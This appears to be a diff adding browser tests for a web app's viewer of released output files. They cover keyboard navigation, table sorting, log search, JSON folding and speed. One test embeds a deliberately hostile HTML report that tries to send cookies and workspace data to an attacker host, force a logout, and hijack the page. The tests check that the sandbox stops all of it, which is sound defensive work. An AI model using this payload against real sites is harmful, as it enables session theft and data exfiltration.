@@ -1,0 +1,219 @@
+// Released files, looked at: their list, each kind of file, a report that means harm, and files inside a backend.
+
+import assert from "node:assert/strict";
+import { after, before, test } from "node:test";
+import { checker, files, inside, listen, project, release, workspace } from "./releasing.mjs";
+import { base, look, person, start, stop } from "./site.mjs";
+
+let address;
+
+before(async () => {
+  await start();
+  address = await release("viewer-kinds", files);
+});
+after(stop);
+
+const open = (page, name) => page.goto(`${address}${name}`);
+
+test("the list goes by keys and by its filter, and each page looks well", async () => {
+  const who = await person({ username: checker });
+  const { page } = who;
+  await page.goto(address);
+  await look(page, "outputs-release");
+  const rows = page.locator("[data-tree] .tree-row:visible");
+  assert.equal(await rows.count(), 8, "the overview and seven files");
+  await page.getByLabel("Filter the files").fill("tab csv");
+  assert.deepEqual(await rows.locator(".tree-name").allTextContents(), ["Overview", "uptake.csv"]);
+  assert.equal(await page.locator("[data-filter-count]").textContent(), "1 of 7 files");
+  await page.getByLabel("Filter the files").press("Escape");
+  assert.equal(await rows.count(), 8);
+  await page.getByLabel("Filter the files").press("ArrowDown");
+  const focused = () => page.evaluate(() => document.activeElement.querySelector(".tree-name")?.textContent);
+  assert.equal(await focused(), "Overview");
+  await page.keyboard.press("ArrowDown");
+  assert.equal(await focused(), "logs");
+  await page.keyboard.press("ArrowLeft");
+  await page.keyboard.press("ArrowDown");
+  assert.equal(await focused(), "plots", "what is folded is passed over");
+  await page.keyboard.press("ArrowRight");
+  await page.keyboard.press("End");
+  assert.equal(await focused(), "report.html");
+  await page.keyboard.press("Enter");
+  await page.waitForURL(`**${address}output/report.html`);
+  assert.equal(await page.frameLocator("iframe").getByRole("heading").textContent(), "Report");
+  await look(page, "outputs-report");
+  await who.leave();
+});
+
+test("a table scrolls and sorts, a text is searched, JSON folds", async () => {
+  const who = await person({ username: checker });
+  const { page } = who;
+  await open(page, "output/tables/uptake.csv");
+  const sheet = page.locator("[data-sheet]");
+  await page.locator(".sheet-live").waitFor();
+  await look(page, "outputs-table");
+  assert.equal(await page.locator("[data-sheet-about]").textContent(), "250 rows below the first, 4 columns. Choose a column's name to sort by it.");
+  assert.ok((await sheet.locator("tbody tr").count()) < 100, "only what is in sight is drawn");
+  await sheet.evaluate((element) => element.scrollTo(0, element.scrollHeight));
+  await sheet.getByRole("rowheader", { name: "250", exact: true }).waitFor();
+  await sheet.getByRole("button", { name: "practice" }).click();
+  await sheet.getByRole("button", { name: "practice" }).click();
+  assert.equal(await sheet.locator("tbody tr:not([hidden]) td").first().textContent(), String(249 * 7));
+  assert.equal(await sheet.getByRole("columnheader", { name: "practice" }).getAttribute("aria-sort"), "descending");
+
+  await open(page, "output/logs/model.log");
+  await page.getByLabel("Search in this file").fill("warning");
+  await page.getByText("1 of 10", { exact: true }).waitFor();
+  await page.getByRole("button", { name: "Previous" }).click();
+  await page.getByText("10 of 10", { exact: true }).waitFor();
+  assert.equal(await page.locator("mark[data-current]").textContent(), "WARNING");
+  await look(page, "outputs-log");
+
+  await open(page, "output/model.json");
+  await look(page, "outputs-json");
+  assert.equal(await page.locator(".json details[open]").count(), 2, "the first levels");
+  await page.getByLabel("Search in this file").fill("sex");
+  await page.getByText("1 of 1", { exact: true }).waitFor();
+  assert.equal(await page.locator("mark[data-current]").isVisible(), true, "it is unfolded");
+  for (const [name, picture] of [["plots/rates.svg", "image"], ["model.feather", "none"]]) {
+    await open(page, `output/${name}`);
+    await look(page, `outputs-${picture}`);
+  }
+  await who.leave();
+});
+
+test("a table of 100,000 rows is there soon and stays smooth", async () => {
+  const rows = Array.from({ length: 100_000 }, (_, n) => `${n},patient ${n},${n % 97}`).join("\n");
+  const long = await release("viewer-long", { "long.csv": `id,name,n\n${rows}\n` });
+  const who = await person({ username: checker });
+  const { page } = who;
+  await page.goto(`${long}long.csv`);
+  await page.locator(".sheet-live").waitFor();
+  const slowest = await page.locator("[data-sheet]").evaluate(async (sheet) => {
+    const frame = () => new Promise((resolve) => requestAnimationFrame(resolve));
+    let worst = 0;
+    for (let step = 1; step <= 40; step += 1) {
+      const begin = performance.now();
+      sheet.scrollTop = (sheet.scrollHeight * step) / 40;
+      await frame();
+      await frame();
+      worst = Math.max(worst, performance.now() - begin);
+    }
+    return worst;
+  });
+  console.log(`the slowest of 40 jumps through 100,000 rows took ${slowest.toFixed(0)} ms`);
+  assert.ok(slowest < 1000, `${slowest} ms`);
+  await page.getByRole("rowheader", { name: "100,000", exact: true }).waitFor();
+  await who.leave();
+});
+
+test("without scripts all of it is there, page by page", async () => {
+  const who = await person({ username: checker, javaScript: false });
+  const { page } = who;
+  await open(page, "output/tables/uptake.csv?page=3");
+  assert.equal(await page.locator(".sheet tbody tr").count(), 50);
+  await open(page, "output/model.json");
+  assert.match(await page.locator("pre").textContent(), /"hr": 1.1/);
+  await who.leave();
+});
+
+// What a report could try: to run, to call us as whoever looks at it, to call somebody else, to take the page away.
+const hostile = (attacker) => `<!doctype html><base target="_top">
+<meta http-equiv="refresh" content="0;url=${attacker}/refreshed">
+<meta http-equiv="Content-Security-Policy" content="default-src *">
+<link rel="stylesheet" href="${attacker}/style.css"><link rel="prefetch" href="${attacker}/prefetched">
+<style>@import "${attacker}/imported.css"; body { background: url(${attacker}/background) }</style>
+<script>
+  const tell = (what) => new Image().src = "${attacker}/ran?" + encodeURIComponent(what);
+  tell("script");
+  try { tell(document.cookie) } catch (error) { tell(error) }
+  try { parent.document.title = "taken"; top.location = "${attacker}/top" } catch (error) { tell(error) }
+  parent.postMessage("taken", "*");
+  fetch("${base}/api/v2/releases/workspace/${workspace}", { credentials: "include" }).then((a) => a.text()).then(tell);
+  fetch("${base}/logout/", { method: "POST", credentials: "include", mode: "no-cors" });
+  open("${attacker}/opened");
+</script>
+<body onload="location='${attacker}/onload'">
+<img src="${attacker}/picture"><img src=x onerror="location='${attacker}/onerror'">
+<img src="${base}/logout/"><iframe src="${attacker}/framed"></iframe><iframe srcdoc="<script>parent.tell(1)</script>"></iframe>
+<object data="${attacker}/object"></object><embed src="${attacker}/embedded"><video src="${attacker}/video"></video>
+<svg onload="location='${attacker}/svg'"><use href="${attacker}/used#a"/></svg>
+<form action="${base}/logout/" method="post" target="_top"><button id="send">Send</button><input autofocus onfocus="this.form.submit()"></form>
+<p><a id="away" href="${attacker}/followed">Away</a> <a id="new" target="_blank" href="${attacker}/new">New</a>
+<a id="script" href="javascript:top.location='${attacker}/javascript'">Script</a></p><h1>Harmless</h1>`;
+
+test("a report that means harm stays in its box", async () => {
+  const attacker = await listen(() => ({ body: "ours now" }));
+  const page_of = await release("viewer-hostile", { "report.html": hostile(attacker.origin), "other.txt": "x" });
+  const who = await person({ username: checker, silent: true });
+  const { page } = who;
+  const asked = [];
+  // What the policy stops is a request to the browser too; what was answered went through.
+  page.context().on("response", (response) => asked.push(response.url()));
+  const messages = [];
+  await page.exposeFunction("heard", (data) => messages.push(data));
+  await page.addInitScript(() => {
+    if (window === top) addEventListener("message", (event) => globalThis.heard(String(event.data)));
+  });
+  const report = `${page_of}report.html`;
+  await page.goto(report);
+  const frame = page.frameLocator("iframe");
+  await frame.getByRole("heading", { name: "Harmless" }).waitFor();
+  // A click does no more than what it does by itself.
+  for (const id of ["#send", "#away", "#new", "#script"]) {
+    await frame.locator(id).click({ timeout: 5000, noWaitAfter: true }).catch(() => {});
+  }
+  await page.waitForTimeout(1000);
+  assert.equal(new URL(page.url()).pathname, report);
+  assert.notEqual(await page.title(), "taken");
+  assert.deepEqual(messages, []);
+  assert.equal(page.context().pages().length, 1, "nothing was opened");
+  assert.deepEqual(attacker.asked, []);
+  assert.deepEqual(asked.filter((url) => url.includes("/logout/") || url.includes("/workspace/")), []);
+  // Opened by itself it is as harmless.
+  const raw = await page.locator("[data-file]").getAttribute("data-raw");
+  await page.goto(raw);
+  await page.waitForTimeout(1000);
+  assert.equal(new URL(page.url()).pathname, raw);
+  await page.locator("#send").click({ noWaitAfter: true });
+  await page.waitForTimeout(500);
+  assert.deepEqual(attacker.asked, []);
+  await page.goto("/settings/");
+  assert.equal(new URL(page.url()).pathname, "/settings/", "still signed in");
+  attacker.close();
+  await who.leave();
+});
+
+test("files inside a backend are fetched by the browser", async () => {
+  const attacker = await listen(() => ({ body: "" }));
+  const server = await inside("viewer-inside", { ...files, "output/hostile.html": hostile(attacker.origin) });
+  const of = `/${project}/${workspace}/files/viewer-inside/`;
+  const who = await person({ username: checker, silent: true });
+  const { page } = who;
+  await page.goto(of);
+  await page.getByRole("heading", { name: "Choose a file" }).waitFor();
+  await look(page, "outputs-inside");
+  await page.getByRole("link", { name: /uptake.csv/ }).click();
+  await page.getByText("250 rows below the first, 4 columns").waitFor();
+  await look(page, "outputs-inside-table");
+  await page.goto(`${of}output/logs/model.log`);
+  await page.getByLabel("Search in this file").fill("warning");
+  await page.getByText("1 of 10", { exact: true }).waitFor();
+  await page.goto(`${of}output/plots/rates.svg`);
+  await page.waitForFunction(() => document.querySelector(".file-image img")?.naturalWidth === 480);
+  await page.goto(`${of}output/report.html`);
+  const heading = page.frameLocator("iframe").getByRole("heading", { name: "Report" });
+  assert.equal(await heading.evaluate((element) => getComputedStyle(element).color), "rgb(0, 0, 128)");
+  await page.goto(`${of}output/hostile.html`);
+  await page.frameLocator("iframe").getByRole("heading", { name: "Harmless" }).waitFor();
+  await page.waitForTimeout(1000);
+  assert.equal(new URL(page.url()).pathname, `${of}output/hostile.html`);
+  assert.deepEqual(attacker.asked, []);
+  await page.goto(`${of}output/none.txt`);
+  await page.getByRole("heading", { name: "There is no such file" }).waitFor();
+  server.close();
+  await page.goto(of);
+  await page.getByRole("heading", { name: "The backend cannot be reached" }).waitFor();
+  attacker.close();
+  await who.leave();
+});
